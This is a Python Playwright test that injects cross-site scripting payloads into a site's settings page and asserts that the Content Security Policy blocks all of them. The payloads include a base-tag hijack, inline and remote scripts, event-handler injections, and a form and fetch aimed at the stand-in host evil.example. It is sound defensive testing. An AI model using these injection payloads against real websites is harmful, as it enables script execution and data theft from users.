"""A script that got into a page all the same: the browser runs none of it."""

from __future__ import annotations

from playwright.sync_api import Browser, Request, Route, expect

from tests.browser.site import Site

BAD = "document.documentElement.dataset.owned = '1'"
# Each way in which a text could become a script, a foreign request or another base.
INJECTED = f"""
<base href="https://evil.example/">
<script>{BAD}</script>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,{BAD}"></script>
<img src="/nowhere.png" onerror="{BAD}">
<img src="https://evil.example/x.png">
<svg onload="{BAD}"></svg>
<style>html {{ --owned: 1 }}</style>
<p id="painted" style="--owned: 1">…</p>
<iframe srcdoc="<script>parent.{BAD}</script>"></iframe>
<object data="data:text/html,<script>{BAD}</script>"></object>
<a id="lure" href="javascript:{BAD}">…</a>
<form id="leak" action="https://evil.example/"><input name="a"></form>
"""
OWNED = """[
  document.documentElement.dataset.owned,
  getComputedStyle(document.documentElement).getPropertyValue("--owned"),
  getComputedStyle(document.querySelector("#painted")).getPropertyValue("--owned"),
  document.baseURI === location.href ? "" : document.baseURI,
]"""
# What a script of ours could do by mistake with a text: each is refused.
TRIED = """async () => {
  const tries = [
    () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
    () => { document.createElement("script").text = "1"; },
    () => new Worker("data:text/javascript,1"),
    () => fetch("https://evil.example/"),
  ];
  const refused = [];
  for (const each of tries) {
    try { await each(); refused.push(false); } catch { refused.push(true); }
  }
  return refused;
}"""


def test_a_script_that_got_in_is_not_run(small_site: Site, chromium: Browser) -> None:
    page = chromium.new_page()  # unwatched: here complaints are what is wanted
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))

    def inject(route: Route) -> None:
        response = route.fetch()
        body = response.text().replace("</main>", f"{INJECTED}</main>", 1)
        assert INJECTED in body
        route.fulfill(response=response, body=body)

    page.route(f"{small_site.url}/settings", inject)
    page.goto(f"{small_site.url}/settings")
    expect(page.locator("#painted")).to_be_visible()
    refused = page.evaluate(TRIED)
    page.locator("#lure").click()
    page.evaluate("document.querySelector('#leak').submit()")
    found = page.evaluate(OWNED)
    foreign = [each for each in asked if not each.url.startswith(small_site.url)]
    stopped_by = {each.url: each.failure for each in foreign}
    page.close()

    assert [each or "" for each in found] == ["", "", "", ""]
    assert refused == [True] * 4
    assert set(stopped_by.values()) <= {"csp"}, stopped_by
